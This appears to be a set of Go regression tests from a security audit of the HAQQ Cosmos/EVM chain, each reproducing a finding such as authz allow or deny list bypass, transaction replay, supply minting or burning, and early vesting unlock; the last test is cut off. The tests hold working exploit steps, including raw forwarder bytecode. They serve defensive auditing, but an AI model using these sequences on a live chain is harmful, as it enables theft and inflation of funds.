// C05-F1: the Cosmos-side effect of the precompile call itself (here: the authz grant written by approve) is made directly
// in the SDK context and is not part of the EVM journal: it survives the revert of the frame that made the call.
func TestVerifFindingC05_GrantMadeInRevertedFrameSurvives(t *testing.T) {
	ds, contractAddr, _ := runFinding(t, false)
	auth, _ := ds.app.AuthzKeeper.GetAuthorization(ds.ctx, contractAddr.Bytes(), ds.address.Bytes(), staking.DelegateMsg)
	require.Nil(t, auth, "the staking grant written by approve() inside the reverted frame still exists: %v", auth)
}
