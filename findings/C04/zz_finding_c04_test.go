package staking_test

// L2 reproduction of finding C04-F1 on the full in-process app: the validator allow list of a staking grant is checked only
// by StakeAuthorization.Accept inside UpdateStakingAuthorization, i.e. AFTER the staking message has been executed. When it
// refuses, the precompile call fails - but only the EVM journal is reverted; the delegation already written to the SDK
// context stays (cf. C05-F1), and the calling contract simply carries on. A contract holding a grant restricted to
// validator A thereby delegates the signer's coins to validator B.
// Run with tools/run_finding.sh C04. The test states the property; it FAILS while the finding is open.

import (
	"math/big"
	"testing"
	"time"

	sdk "github.com/cosmos/cosmos-sdk/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

func TestVerifFindingC04_DelegateOutsideAllowList(t *testing.T) {
	ds := new(PrecompileTestSuite)
	ds.SetT(t)
	ds.DoSetupTest()
	var err error
	ds.ctx, err = haqqtestutil.CommitAndCreateNewCtx(ds.ctx, ds.app, time.Second, nil)
	require.NoError(t, err)
	// forwarder: CALLDATACOPY(0,0,cds); ok := CALL(gas, 0x800, 0, 0, cds, 0, 0); SSTORE(0, ok+1); STOP
	runtime := []byte{
		0x36, 0x60, 0x00, 0x60, 0x00, 0x37,
		0x60, 0x00, 0x60, 0x00, 0x36, 0x60, 0x00, 0x60, 0x00, 0x61, 0x08, 0x00, 0x5a, 0xf1,
		0x60, 0x01, 0x01, 0x60, 0x00, 0x55,
		0x00,
	}
	init := append([]byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}, runtime...)
	contractAddr, err := ds.DeployContract(evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: init})
	require.NoError(t, err)
	ds.ctx, err = haqqtestutil.CommitAndCreateNewCtx(ds.ctx, ds.app, time.Second, nil)
	require.NoError(t, err)
	require.GreaterOrEqual(t, len(ds.validators), 2)
	allowed, other := ds.validators[0], ds.validators[1]

	// the signer's grant to the contract: delegate, at most 1e18, ONLY to validators[0]
	limit := sdk.NewCoin(ds.bondDenom, sdk.NewInt(1e18))
	auth, err := stakingtypes.NewStakeAuthorization([]sdk.ValAddress{allowed.GetOperator()}, nil, staking.DelegateAuthz, &limit)
	require.NoError(t, err)
	exp := ds.ctx.BlockTime().Add(time.Hour)
	require.NoError(t, ds.app.AuthzKeeper.SaveGrant(ds.ctx, contractAddr.Bytes(), ds.address.Bytes(), auth, &exp))
	ds.ctx, err = haqqtestutil.CommitAndCreateNewCtx(ds.ctx, ds.app, time.Second, nil)
	require.NoError(t, err)

	signer := sdk.AccAddress(ds.address.Bytes())
	sharesBefore := sdk.ZeroDec()
	if d, found := ds.app.StakingKeeper.GetDelegation(ds.ctx, signer, other.GetOperator()); found {
		sharesBefore = d.Shares
	}
	amount := big.NewInt(1_000_000)
	_, ethRes, err := contracts.Call(ds.ctx, ds.app, contracts.CallArgs{
		ContractAddr: contractAddr, ContractABI: ds.precompile.ABI, PrivKey: ds.privKey,
		MethodName: staking.DelegateMethod, Args: []interface{}{ds.address, other.OperatorAddress, amount}, GasLimit: 3_000_000,
	})
	require.NoError(t, err)
	require.False(t, ethRes.Failed(), ethRes.VmError)
	ok := ds.app.EvmKeeper.GetState(ds.ctx, contractAddr, common.Hash{}).Big().Int64()
	sharesAfter := sdk.ZeroDec()
	if d, found := ds.app.StakingKeeper.GetDelegation(ds.ctx, signer, other.GetOperator()); found {
		sharesAfter = d.Shares
	}
	t.Logf("precompile call inside the contract returned ok=%d (1 = failed); signer's shares at the validator OUTSIDE the allow list: before=%s after=%s", ok-1, sharesBefore, sharesAfter)
	require.Equal(t, int64(1), ok, "the precompile call for a validator outside the allow list must fail")
	require.True(t, sharesAfter.Equal(sharesBefore), "the signer's coins were delegated to a validator the grant does not cover: shares %s -> %s", sharesBefore, sharesAfter)
}
