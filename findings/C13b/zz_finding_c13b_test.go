package keeper_test

// L2 reproduction of finding C13-F2 on the full in-process app: the coinomics parameter validation accepts a negative reward
// coefficient. While it is in force MintAndAllocate returns early ("blockMint is negative") WITHOUT recording the block
// timestamp; when the coefficient is corrected, the first block mints for the whole time in between - a second way into the
// defect of C13-F1 ("elapsed is measured between consecutive block timestamps").
// Run with tools/run_finding.sh C13b. The test states the property; it FAILS while the finding is open.

import (
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/stretchr/testify/require"
)

func TestVerifFindingC13_NegativeCoefficientFreezesTheBlockClock(t *testing.T) {
	s = new(KeeperTestSuite)
	s.DoSetupTest(t)
	k := s.app.CoinomicsKeeper
	ctx := s.ctx
	params := k.GetParams(ctx)
	params.EnableCoinomics = true
	k.SetParams(ctx, params)
	k.SetMaxSupply(ctx, sdk.NewCoin("aISLM", sdkmath.NewIntWithDecimal(100_000_000_000, 18)))
	supply := func(c sdk.Context) sdkmath.Int { return s.app.BankKeeper.GetSupply(c, "aISLM").Amount }

	k.EndBlocker(ctx) // first enabled block: records the timestamp
	ctx = ctx.WithBlockTime(ctx.BlockTime().Add(5 * time.Second))
	before := supply(ctx)
	k.EndBlocker(ctx)
	normal := supply(ctx).Sub(before)
	require.True(t, normal.IsPositive(), "an ordinary 5s block mints something")

	// a parameter change sets a negative coefficient (the parameter subspace runs the module's validation function)
	good := k.GetParams(ctx).RewardCoefficient
	bad := k.GetParams(ctx)
	bad.RewardCoefficient = sdk.NewDec(-1)
	accepted := true
	func() {
		defer func() {
			if r := recover(); r != nil {
				accepted = false
				t.Logf("the parameter change was refused: %v", r)
			}
		}()
		k.SetParams(ctx, bad)
	}()
	if !accepted {
		return // refused by validation: nothing to reproduce
	}
	for i := 0; i < 10; i++ {
		ctx = ctx.WithBlockTime(ctx.BlockTime().Add(5 * time.Second))
		k.EndBlocker(ctx)
	}
	// the coefficient is corrected
	fixed := k.GetParams(ctx)
	fixed.RewardCoefficient = good
	k.SetParams(ctx, fixed)
	ctx = ctx.WithBlockTime(ctx.BlockTime().Add(5 * time.Second))
	before = supply(ctx)
	k.EndBlocker(ctx)
	first := supply(ctx).Sub(before)
	t.Logf("an ordinary 5 s block mints %s; the first 5 s block after ten blocks under a negative coefficient minted %s", normal, first)
	require.True(t, first.LTE(normal), "the first block after the coefficient was corrected minted %s for a 5 s interval (an ordinary block mints %s)", first, normal)
}
