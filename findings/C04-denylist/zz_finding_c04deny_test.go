package staking_test

// L2 reproduction for property C04 (finding C04-F5): the validator deny list of a stake authorization is compared with the
// validator address of the message as a string; the staking precompile handed the address from the call data on as typed,
// and bech32 also admits an all upper-case spelling. A contract with a grant "delegate anywhere except validator X" reached
// X by spelling its address in upper case. Reproduction by a seeding sub-agent (round 8), run here against the fixed tree.
// Run with tools/run_finding.sh C04-denylist.

import (
	"math/big"
	"strings"
	"testing"
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/core/vm"
	"github.com/stretchr/testify/suite"

	"github.com/haqq-network/haqq/precompiles/staking"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
)

type verifDenySuite struct{ PrecompileTestSuite }

func TestVerifFindingC04DenyList(t *testing.T) { suite.Run(t, new(verifDenySuite)) }

func (s *verifDenySuite) TestDeniedValidatorInUpperCase() {
	s.SetupTest()
	method := s.precompile.Methods[staking.DelegateMethod]
	callingContract := testutiltx.GenerateAddress()
	denied := s.validators[0].GetOperator()
	coin := sdk.NewCoin(s.bondDenom, math.NewInt(5e18))
	stakeAuthz, err := stakingtypes.NewStakeAuthorization(nil, []sdk.ValAddress{denied}, staking.DelegateAuthz, &coin)
	s.Require().NoError(err)
	expiration := s.ctx.BlockTime().Add(time.Hour).UTC()
	s.Require().NoError(s.app.AuthzKeeper.SaveGrant(s.ctx, callingContract.Bytes(), s.address.Bytes(), stakeAuthz, &expiration))
	call := func(valAddr string) error {
		contract := vm.NewContract(vm.AccountRef(s.address), s.precompile, big.NewInt(0), 200000)
		contract.CallerAddress = callingContract
		_, err := s.precompile.Delegate(s.ctx.WithGasMeter(sdk.NewInfiniteGasMeter()), s.address, contract, s.stateDB, &method, []interface{}{s.address, valAddr, big.NewInt(1e18)})
		return err
	}
	before, _ := s.app.StakingKeeper.GetDelegation(s.ctx, s.address.Bytes(), denied)
	s.Require().Error(call(denied.String()), "the denied validator in its canonical spelling is refused")
	err = call(strings.ToUpper(denied.String()))
	after, _ := s.app.StakingKeeper.GetDelegation(s.ctx, s.address.Bytes(), denied)
	s.T().Logf("upper-case call error: %v; shares before %s after %s", err, before.Shares, after.Shares)
	s.Require().Error(err, "the denied validator in upper-case spelling is refused as well")
	s.Require().True(before.Shares.Equal(after.Shares), "nothing was delegated to the denied validator")
}
