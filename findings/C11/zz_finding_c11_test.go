package keeper_test

// L2 reproduction of finding C11-F1 on the full in-process app (real liquidvesting, vesting, bank, erc20 keepers):
// redeeming a liquid token into an account that already is a clawback vesting account re-anchors the token's remaining
// schedule at the *account's* start time (ApplyVestingSchedule passes min(schedule start, account start) as the start of
// the new grant), so every release of the redeemed coins happens (liquidation time - account start) earlier than the
// schedule recorded for the liquid token. Liquidating and redeeming back to oneself 60 % into a lockup period unlocks
// the coins immediately.
// Run with tools/run_finding.sh C11. The test states the property; it fails while the defect is present.

import (
	"testing"
	"time"

	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"

	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/x/liquidvesting/types"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
)

func TestVerifFindingC11_RedeemToOlderVestingAccountUnlocksEarly(t *testing.T) {
	suite := new(KeeperTestSuite)
	suite.SetT(t)
	s = suite
	suite.DoSetupTest(t)
	ctx := sdk.WrapSDKContext(suite.ctx)
	now := suite.ctx.BlockTime()
	total := sdk.NewCoins(sdk.NewInt64Coin("aISLM", 3_000_000))
	// one lockup period of 100000 s that started 60000 s ago: everything stays locked for another 40000 s
	lockup := sdkvesting.Periods{{Length: 100000, Amount: total}}
	vesting := sdkvesting.Periods{{Length: 0, Amount: total}}
	funder := sdk.AccAddress(types.ModuleName)
	start := now.Add(-60000 * time.Second)
	acc := vestingtypes.NewClawbackVestingAccount(authtypes.NewBaseAccountWithAddress(addr1), funder, total, start, lockup, vesting, nil)
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, addr1, total))
	suite.app.AccountKeeper.SetAccount(suite.ctx, acc)

	lockedBefore := acc.GetLockedUpCoins(now)
	suite.Require().Equal(total.String(), lockedBefore.String())
	suite.Require().True(suite.app.BankKeeper.SpendableCoin(suite.ctx, addr1, "aISLM").IsZero())

	_, err := suite.app.LiquidVestingKeeper.Liquidate(ctx, types.NewMsgLiquidate(addr1, addr1, total[0]))
	suite.Require().NoError(err)
	d, found := suite.app.LiquidVestingKeeper.GetDenom(suite.ctx, "aLIQUID0")
	suite.Require().True(found)
	// the liquid token records: everything is released 40000 s from now
	suite.Require().Equal(now.Unix()+40000, d.EndTime.Unix())

	_, err = suite.app.LiquidVestingKeeper.Redeem(ctx, types.NewMsgRedeem(addr1, addr1, sdk.NewInt64Coin("aLIQUID0", 3_000_000)))
	suite.Require().NoError(err)

	after, ok := suite.app.AccountKeeper.GetAccount(suite.ctx, addr1).(*vestingtypes.ClawbackVestingAccount)
	suite.Require().True(ok)
	lockedAfter := after.GetLockedUpCoins(now)
	spendable := suite.app.BankKeeper.SpendableCoin(suite.ctx, addr1, "aISLM")
	suite.T().Logf("locked before=%s, locked after liquidate+redeem in the same block=%s, spendable=%s, account start=%d, lockup=%v",
		lockedBefore, lockedAfter, spendable, after.StartTime.Unix()-now.Unix(), after.LockupPeriods)
	suite.Require().Equal(total.String(), lockedAfter.String(), "coins redeemed from a liquid token whose schedule releases in 40000 s must still be locked now")
}
