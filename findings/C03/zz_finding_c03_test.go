package staking_test

// L2 reproduction of finding C03-F1 on the full in-process app (DeliverTx path, real ante handler and EVM):
// a Cosmos transaction may carry several Ethereum messages; the ante handler advances the sender's sequence once per
// message (n -> n+2 for two messages), but the contract-creation path of ApplyMessageWithConfig "takes over nonce management"
// and sets the nonce to msg.Nonce()+1 = n+1 after the creation - lowering it. The second message of the batch (nonce n+1) has
// then been executed while the account's sequence still says n+1: anybody can submit that signed message again, alone, and it
// is executed a second time. The envelope around Ethereum messages is not signed, so any pending create/call pair of a
// victim can be batched by a third party.
// Run with tools/run_finding.sh C03. The test states the property; it fails while the defect is present.

import (
	"math/big"
	"testing"
	"time"

	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/stretchr/testify/require"

	haqqtestutil "github.com/haqq-network/haqq/testutil"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

func TestVerifFindingC03_BatchedCreateThenCallCanBeReplayed(t *testing.T) {
	ds := new(PrecompileTestSuite)
	ds.SetT(t)
	ds.DoSetupTest()
	var err error
	ds.ctx, err = haqqtestutil.CommitAndCreateNewCtx(ds.ctx, ds.app, time.Second, nil)
	require.NoError(t, err)

	from := ds.address
	to := utiltx.GenerateAddress()
	n := ds.app.EvmKeeper.GetNonce(ds.ctx, from)
	chainID := ds.app.EvmKeeper.ChainID()
	baseFee := ds.app.FeeMarketKeeper.GetBaseFee(ds.ctx)
	price := new(big.Int).Mul(baseFee, big.NewInt(2))
	mk := func(nonce uint64, to *common.Address, data []byte, amt int64) *evmtypes.MsgEthereumTx {
		m := evmtypes.NewTx(&evmtypes.EvmTxArgs{ChainID: chainID, Nonce: nonce, To: to, Amount: big.NewInt(amt), GasLimit: 200000, GasPrice: price, Input: data})
		m.From = from.Hex()
		require.NoError(t, m.Sign(ds.ethSigner, utiltx.NewSigner(ds.privKey)))
		return m
	}
	create := mk(n, nil, []byte{0x00}, 0) // init code STOP: deploys an empty contract
	call := mk(n+1, &to, nil, 1000)      // plain value transfer of 1000
	_, err = haqqtestutil.DeliverEthTx(ds.app, nil, create, call)
	require.NoError(t, err)
	balAfterBatch := ds.app.BankKeeper.GetBalance(ds.ctx, sdk.AccAddress(to.Bytes()), ds.bondDenom).Amount
	nonceAfterBatch := ds.app.EvmKeeper.GetNonce(ds.ctx, from)
	t.Logf("nonce before=%d, after the batch [create(n), call(n+1)]=%d (two messages were executed); recipient=%s", n, nonceAfterBatch, balAfterBatch)
	require.Equal(t, "1000", balAfterBatch.String())

	// anybody re-submits the already executed second message, alone
	_, err = haqqtestutil.DeliverEthTx(ds.app, nil, call)
	balAfterReplay := ds.app.BankKeeper.GetBalance(ds.ctx, sdk.AccAddress(to.Bytes()), ds.bondDenom).Amount
	t.Logf("replay of call(n+1): err=%v; nonce=%d; recipient=%s", err, ds.app.EvmKeeper.GetNonce(ds.ctx, from), balAfterReplay)
	require.Equal(t, n+2, nonceAfterBatch, "two executed messages must consume two sequence numbers")
	require.Error(t, err, "an already executed Ethereum transaction was accepted a second time")
	require.Equal(t, "1000", balAfterReplay.String(), "the transfer was executed twice")
}
