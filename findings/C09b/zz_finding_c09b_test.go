package keeper_test

// L2 reproduction for property C09, clause "a schedule read at time t yields the sum of all periods ended by t": the lengths
// of a schedule's periods are added to the start time without overflow checks (AlignSchedules, ReadSchedule). A message with
// two periods of 2^62 seconds passed ValidateBasic and the message server; the stored end time wrapped to a negative number,
// so one second after the start the whole grant counted as vested and unlocked although no period had ended, a clawback
// found nothing unvested, and the stored account failed its own Validate(). Finding C09-F2 (remarked by a seeding sub-agent).
// Run with tools/run_finding.sh C09b. The test states the property; it failed before the fix.

import (
	"testing"
	"time"

	sdk "github.com/cosmos/cosmos-sdk/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"

	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/x/vesting/types"
)

func TestVerifFindingC09b_PeriodLengthsThatOverflowTheEndTime(t *testing.T) {
	suite := new(KeeperTestSuite)
	suite.SetT(t)
	s = suite
	suite.DoSetupTest(t)
	now := suite.ctx.BlockTime()
	half := sdk.NewCoins(sdk.NewInt64Coin("aISLM", 500))
	total := sdk.NewCoins(sdk.NewInt64Coin("aISLM", 1000))
	periods := sdkvesting.Periods{{Length: 1 << 62, Amount: half}, {Length: 1 << 62, Amount: half}}
	funder, grantee := addr3, addr4
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, funder, total))

	for _, msg := range []sdk.Msg{
		types.NewMsgCreateClawbackVestingAccount(funder, grantee, now, periods, periods, false),
		&types.MsgConvertIntoVestingAccount{FromAddress: funder.String(), ToAddress: grantee.String(), StartTime: now, LockupPeriods: periods, VestingPeriods: periods},
	} {
		verr := msg.ValidateBasic()
		t.Logf("%T.ValidateBasic() = %v", msg, verr)
		if verr != nil {
			continue // refused at the door: nothing to read
		}
		// accepted: then the schedule must read as a schedule
		if m, ok := msg.(*types.MsgCreateClawbackVestingAccount); ok {
			_, err := suite.app.VestingKeeper.CreateClawbackVestingAccount(sdk.WrapSDKContext(suite.ctx), m)
			suite.Require().NoError(err)
			acc := suite.app.AccountKeeper.GetAccount(suite.ctx, grantee).(*types.ClawbackVestingAccount)
			at := now.Add(time.Second)
			t.Logf("stored: start=%d end=%d vested(start+1s)=%s unlocked(start+1s)=%s Validate()=%v", acc.StartTime.Unix(), acc.EndTime, acc.GetVestedCoins(at), acc.GetUnlockedCoins(at), acc.Validate())
			suite.Require().True(acc.GetVestedCoins(at).IsZero(), "nothing is vested one second after the start: no period has ended")
			suite.Require().True(acc.GetUnlockedCoins(at).IsZero(), "nothing is unlocked one second after the start")
			suite.Require().NoError(acc.Validate(), "the stored account is valid")
		}
	}
}
