package keeper_test

// L2 reproduction of finding C12-F1 (UC DAO: transferring ownership to oneself destroyed the share) on the full app,
// through the public message server. Run with tools/run_finding.sh C12. Fails before the "fix:" commit, passes after.

import (
	"testing"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/x/ucdao/keeper"
	"github.com/haqq-network/haqq/x/ucdao/types"
)

func TestVerifFindingC12_SelfTransferKeepsShare(t *testing.T) {
	s = new(KeeperTestSuite)
	s.SetT(t)
	s.SetupTest()
	ctx := s.ctx
	k := s.app.DaoKeeper
	bk := k.(keeper.BaseKeeper)
	params := bk.GetParams(ctx)
	params.EnableDao = true
	require.NoError(t, bk.SetParams(ctx, params))

	alice := sdk.AccAddress(s.address.Bytes())
	coins := sdk.NewCoins(sdk.NewCoin("aISLM", sdkmath.NewInt(100)))
	require.NoError(t, testutil.FundAccount(ctx, s.app.BankKeeper, alice, coins))
	srv := keeper.NewMsgServerImpl(k)
	_, err := srv.Fund(sdk.WrapSDKContext(ctx), types.NewMsgFund(coins, alice))
	require.NoError(t, err)
	require.Equal(t, "100", k.GetBalance(ctx, alice, "aISLM").Amount.String())

	_, err = srv.TransferOwnershipWithAmount(sdk.WrapSDKContext(ctx),
		types.NewMsgTransferOwnershipWithAmount(alice, alice, sdk.NewCoins(sdk.NewCoin("aISLM", sdkmath.NewInt(40)))))
	require.NoError(t, err)

	require.Equal(t, "100", k.GetBalance(ctx, alice, "aISLM").Amount.String(), "a transfer to oneself must not destroy the share")
	require.Equal(t, "100", k.GetTotalBalanceOf(ctx, "aISLM").Amount.String())
	moduleAcc := s.app.AccountKeeper.GetModuleAddress(types.ModuleName)
	require.Equal(t, "100", s.app.BankKeeper.GetBalance(ctx, moduleAcc, "aISLM").Amount.String())
}
