package staking_test

// L2 reproduction of finding C02-F1 on the full in-process app (real EVM, real staking precompile, DeliverTx path):
// the tx signer sends value to a contract (so the signer's account is dirty in the EVM journal with its balance cached),
// and the contract - holding a staking grant from the signer - calls staking.delegate(delegator = signer). The precompile
// mirrors the bank debit into the StateDB only when the *caller* is the delegator, so at the final Commit the signer's
// cached (pre-delegation) balance is written back: the delegated coins are minted again while the delegation stays.
// Run with tools/run_finding.sh C02. The test states the property; it FAILS while the finding is open.

import (
	"math/big"
	"testing"
	"time"

	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/precompiles/authorization"
	"github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// forwarder: CALLDATACOPY(0,0,cds); ok := CALL(gas, 0x800, 0, 0, cds, 0, 0); SSTORE(0, ok+1); STOP   (payable)
func c02ForwarderRuntime() []byte {
	return []byte{
		0x36, 0x60, 0x00, 0x60, 0x00, 0x37,
		0x60, 0x00, 0x60, 0x00, 0x36, 0x60, 0x00, 0x60, 0x00, 0x61, 0x08, 0x00, 0x5a, 0xf1,
		0x60, 0x01, 0x01, 0x60, 0x00, 0x55,
		0x00,
	}
}

func c02Init(runtime []byte) []byte {
	init := []byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
	return append(init, runtime...)
}

func c02Run(t *testing.T, value *big.Int) {
	ds := new(PrecompileTestSuite)
	ds.SetT(t)
	ds.DoSetupTest()
	var err error
	ds.ctx, err = haqqtestutil.CommitAndCreateNewCtx(ds.ctx, ds.app, time.Second, nil)
	require.NoError(t, err)
	contractAddr, err := ds.DeployContract(evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: c02Init(c02ForwarderRuntime())})
	require.NoError(t, err)
	ds.ctx, err = haqqtestutil.CommitAndCreateNewCtx(ds.ctx, ds.app, time.Second, nil)
	require.NoError(t, err)

	// the signer grants the contract the right to delegate on its behalf (direct EOA -> precompile call)
	_, ethRes, err := contracts.Call(ds.ctx, ds.app, contracts.CallArgs{
		ContractAddr: ds.precompile.Address(), ContractABI: ds.precompile.ABI, PrivKey: ds.privKey,
		MethodName: authorization.ApproveMethod, Args: []interface{}{contractAddr, big.NewInt(1e18), []string{staking.DelegateMsg}}, GasLimit: 3_000_000,
	})
	require.NoError(t, err)
	require.False(t, ethRes.Failed(), ethRes.VmError)
	ds.ctx, err = haqqtestutil.CommitAndCreateNewCtx(ds.ctx, ds.app, time.Second, nil)
	require.NoError(t, err)

	signer := sdk.AccAddress(ds.address.Bytes())
	val := ds.validators[0]
	supplyBefore := ds.app.BankKeeper.GetSupply(ds.ctx, ds.bondDenom).Amount
	bondedBefore := ds.app.StakingKeeper.GetDelegatorBonded(ds.ctx, signer)
	balBefore := ds.app.BankKeeper.GetBalance(ds.ctx, signer, ds.bondDenom).Amount
	amount := big.NewInt(1_000_000)

	_, ethRes, err = contracts.Call(ds.ctx, ds.app, contracts.CallArgs{
		ContractAddr: contractAddr, ContractABI: ds.precompile.ABI, PrivKey: ds.privKey, Amount: value,
		MethodName: staking.DelegateMethod, Args: []interface{}{ds.address, val.OperatorAddress, amount}, GasLimit: 3_000_000,
	})
	require.NoError(t, err)
	require.False(t, ethRes.Failed(), ethRes.VmError)
	ok := ds.app.EvmKeeper.GetState(ds.ctx, contractAddr, common.Hash{}).Big()
	require.Equal(t, int64(2), ok.Int64(), "the precompile call inside the contract must have succeeded")

	supplyAfter := ds.app.BankKeeper.GetSupply(ds.ctx, ds.bondDenom).Amount
	bondedAfter := ds.app.StakingKeeper.GetDelegatorBonded(ds.ctx, signer)
	balAfter := ds.app.BankKeeper.GetBalance(ds.ctx, signer, ds.bondDenom).Amount
	t.Logf("value=%s supply before=%s after=%s (diff %s); bonded before=%s after=%s; signer balance before=%s after=%s (diff %s)",
		value, supplyBefore, supplyAfter, supplyAfter.Sub(supplyBefore), bondedBefore, bondedAfter, balBefore, balAfter, balBefore.Sub(balAfter))
	require.Equal(t, amount.String(), bondedAfter.Sub(bondedBefore).String(), "the delegation happened")
	require.True(t, supplyAfter.Equal(supplyBefore), "total supply of the native coin changed by %s during an EVM transaction", supplyAfter.Sub(supplyBefore))
}

func TestVerifFindingC02_DelegateForDirtyOrigin(t *testing.T) { c02Run(t, big.NewInt(5)) }

// control: without attached value the signer is not journal-dirty and the supply is conserved
func TestVerifFindingC02_Control_NoValue(t *testing.T) { c02Run(t, nil) }

// C02-F5: a delegation to a validator at which the delegator already has pending rewards makes the staking hooks pay those
// rewards into the delegator's bank balance. The precompile mirrors only "- amount" into the EVM's cached balance of the
// caller (loaded before the payout), so the final Commit writes balance - amount back and the rewards are burned - in the
// most ordinary topology, an EOA calling the precompile directly.
func TestVerifFindingC02_DelegateWithPendingRewardsBurnsThem(t *testing.T) {
	ds := new(PrecompileTestSuite)
	ds.SetT(t)
	ds.DoSetupTest()
	var err error
	ds.ctx, err = haqqtestutil.CommitAndCreateNewCtx(ds.ctx, ds.app, time.Second, nil)
	require.NoError(t, err)
	signer := sdk.AccAddress(ds.address.Bytes())
	val := ds.validators[0]
	// an existing delegation with outstanding rewards
	_, err = ds.app.StakingKeeper.Delegate(ds.ctx, signer, sdk.NewInt(1e18), 1, val, true)
	require.NoError(t, err)
	rewards := sdk.NewInt(1e18)
	require.NoError(t, haqqtestutil.FundModuleAccount(ds.ctx, ds.app.BankKeeper, "distribution", sdk.NewCoins(sdk.NewCoin(ds.bondDenom, rewards.MulRaw(10)))))
	ds.ctx, err = haqqtestutil.CommitAndCreateNewCtx(ds.ctx, ds.app, time.Second, nil)
	require.NoError(t, err)
	v, _ := ds.app.StakingKeeper.GetValidator(ds.ctx, val.GetOperator())
	ds.app.DistrKeeper.AllocateTokensToValidator(ds.ctx, v, sdk.NewDecCoins(sdk.NewDecCoin(ds.bondDenom, rewards.MulRaw(10))))
	ds.ctx, err = haqqtestutil.CommitAndCreateNewCtx(ds.ctx, ds.app, time.Second, nil)
	require.NoError(t, err)

	supplyBefore := ds.app.BankKeeper.GetSupply(ds.ctx, ds.bondDenom).Amount
	_, ethRes, err := contracts.Call(ds.ctx, ds.app, contracts.CallArgs{
		ContractAddr: ds.precompile.Address(), ContractABI: ds.precompile.ABI, PrivKey: ds.privKey,
		MethodName: staking.DelegateMethod, Args: []interface{}{ds.address, val.OperatorAddress, big.NewInt(1_000_000)}, GasLimit: 3_000_000,
	})
	require.NoError(t, err)
	require.False(t, ethRes.Failed(), ethRes.VmError)
	supplyAfter := ds.app.BankKeeper.GetSupply(ds.ctx, ds.bondDenom).Amount
	t.Logf("supply diff after an EOA -> staking.delegate with pending rewards: %s", supplyAfter.Sub(supplyBefore))
	require.True(t, supplyAfter.Equal(supplyBefore), "total supply of the native coin changed by %s during an EVM transaction", supplyAfter.Sub(supplyBefore))
}
