package epochs_test

// L2 reproduction for property C19, epochs module (finding C19-F2): a state exported at height 50 holding an epoch whose
// current period began at height 7 is imported at height 51; the second export must be the same document. Before fix
// acde4c0 InitGenesis replaced the start height by 51. Run with tools/run_finding.sh C19-epochs.

import (
	"testing"
	"time"

	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/stretchr/testify/require"

	simapp "github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/utils"
	"github.com/haqq-network/haqq/x/epochs"
	"github.com/haqq-network/haqq/x/epochs/types"
	feemarkettypes "github.com/haqq-network/haqq/x/feemarket/types"
)

func TestVerifFindingC19Epochs_StartHeightSurvivesReimport(t *testing.T) {
	app, _ := simapp.Setup(false, feemarkettypes.DefaultGenesisState(), utils.TestEdge2ChainID+"-3")
	ctx := app.BaseApp.NewContext(false, tmproto.Header{})
	for _, e := range app.EpochsKeeper.AllEpochInfos(ctx) {
		app.EpochsKeeper.DeleteEpochInfo(ctx, e.Identifier)
	}
	start := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
	app.EpochsKeeper.SetEpochInfo(ctx, types.EpochInfo{Identifier: "day", StartTime: start, Duration: 24 * time.Hour, CurrentEpoch: 3,
		CurrentEpochStartHeight: 7, CurrentEpochStartTime: start.Add(48 * time.Hour), EpochCountingStarted: true})
	ctx = ctx.WithBlockHeight(50).WithBlockTime(start.Add(60 * time.Hour))
	first := epochs.ExportGenesis(ctx, app.EpochsKeeper)
	require.NoError(t, first.Validate())

	// a fresh chain initialised from the export at the next height
	app2, _ := simapp.Setup(false, feemarkettypes.DefaultGenesisState(), utils.TestEdge2ChainID+"-3")
	ctx2 := app2.BaseApp.NewContext(false, tmproto.Header{}).WithBlockHeight(51).WithBlockTime(start.Add(61 * time.Hour))
	for _, e := range app2.EpochsKeeper.AllEpochInfos(ctx2) {
		app2.EpochsKeeper.DeleteEpochInfo(ctx2, e.Identifier)
	}
	epochs.InitGenesis(ctx2, app2.EpochsKeeper, *first)
